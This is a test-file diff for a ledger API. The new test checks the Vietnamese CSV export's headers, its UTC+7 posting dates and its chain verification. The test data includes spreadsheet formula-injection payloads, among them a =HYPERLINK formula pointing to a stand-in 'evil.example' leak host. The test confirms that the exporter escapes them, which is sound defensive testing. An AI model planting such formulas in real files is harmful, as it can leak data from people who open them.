@@ -4,7 +4,7 @@ import { entryFromCsvRecord } from '../../shared/audit/presentation/ledger-csv.t
 import { GENESIS_HASH, verifyChain } from '../../shared/ledger/domain/hash-chain.ts';
 import { ROLES } from '../../shared/platform/roles.ts';
 import { ROUTES } from '../../shared/routes.ts';
-import { cellValues, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
+import { cellValues, looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
 import { steps } from './support/api-steps.ts';
 import { type Runtime, startRuntime } from './support/local-runtime.ts';
 
@@ -109,6 +109,59 @@ describe('the audit routes over HTTP', () => {
     const fromCopy = cellValues(copy).map(entryFromCsvRecord);
     expect(fromCopy).toEqual(json.body.items);
     expect(verifyChain(fromCopy)).toMatchObject({ valid: true, checked: payees.length });
+  });
+
+  it('gives people Vietnamese headers and the posting day in Vietnam last, formula payloads still inert, and a copy that re-verifies', async () => {
+    const payees = ['=HYPERLINK("http://evil.example/?leak","Xem")', '@SUM(1)', '-1+1'];
+    const purposes = ['=1+1', '+đợt 2', 'Hỗ trợ làm nhà'];
+    const id = (await s.createAllocation({ fiscalYear: FY, fundingLine: 'local', amountVnd: 900_000_000 }))
+      .id;
+    for (const [i, name] of payees.entries()) {
+      const submitted = await s.submit(id, 1_000_000 * (i + 1), 'finance-lan', undefined, {
+        payee: { name, kind: 'household' },
+        purpose: purposes[i],
+      });
+      expect(submitted.status).toBe(201);
+      await s.approveAll(submitted.body.id);
+    }
+    const token = await s.as('auditor-an', 'auditor');
+    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&allocationId=${id}&limit=500`, {
+      token,
+    });
+    const res = await fetch(
+      `${rt.url}/ledger/entries?fiscalYear=${FY}&allocationId=${id}&format=csv&lang=vi`,
+      {
+        headers: { authorization: `Bearer ${token}` },
+      },
+    );
+    const csv = await res.text();
+    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    const headers = Object.keys(records[0] ?? {});
+    const copy = openInSpreadsheet(csv);
+    // Written apart from the exporter: UTC+7, day first.
+    const vnDay = (iso: string) =>
+      new Date(Date.parse(iso) + 7 * 3_600_000).toISOString().slice(0, 10).split('-').reverse().join('/');
+    const wrong = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&format=csv&lang=fr`, { token });
+
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="so-cai-${FY}.csv"`);
+    expect(headers).toEqual(
+      expect.arrayContaining(['Năm kế hoạch', 'Đơn vị thụ hưởng', 'Nội dung thanh toán', 'Số tiền (đồng)']),
+    );
+    expect(headers).not.toContain('payeeName');
+    expect(headers.at(-1)).toBe('Ngày ghi sổ');
+    expect(records.map((r) => r['Ngày ghi sổ'])).toEqual(
+      json.body.items.map((e: { postedAt: string }) => vnDay(e.postedAt)),
+    );
+    expect(records.map((r) => r['Ngày ghi sổ'])).toEqual(payees.map(() => '01/10/2024'));
+    expect(records.map((r) => r['Đơn vị thụ hưởng'])).toEqual(payees.map((p) => `'${p}`));
+    expect(records.map((r) => r['Nội dung thanh toán'])).toEqual(["'=1+1", "'+đợt 2", 'Hỗ trợ làm nhà']);
+    expect(records.flatMap((r) => Object.values(r)).filter(looksRunnable)).toEqual([]);
+    expect(copy.flatMap((row) => Object.values(row).filter((cell) => cell.f !== undefined))).toEqual([]);
+    const fromCopy = cellValues(copy).map(entryFromCsvRecord);
+    expect(fromCopy).toEqual(json.body.items);
+    expect(verifyChain(fromCopy)).toMatchObject({ valid: true, checked: payees.length });
+    expect(wrong.status).toBe(400);
   });
 
   it('answers 400 invalid_cursor to an edited cursor', async () => {
